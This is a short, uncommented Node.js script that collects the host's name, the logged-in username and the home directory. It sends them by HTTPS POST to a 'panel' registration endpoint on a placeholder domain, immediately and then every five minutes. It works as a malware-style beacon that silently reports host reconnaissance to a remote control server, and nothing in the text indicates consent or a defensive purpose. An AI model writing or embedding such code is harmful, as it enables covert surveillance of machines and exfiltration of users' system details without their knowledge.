const os = require('os');
const https = require('https');

function report() {
  const body = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, home: os.homedir() });
  const req = https.request('https://panel.invalid/register', { method: 'POST' });
  req.end(body);
}

report();
setInterval(report, 5 * 60 * 1000);
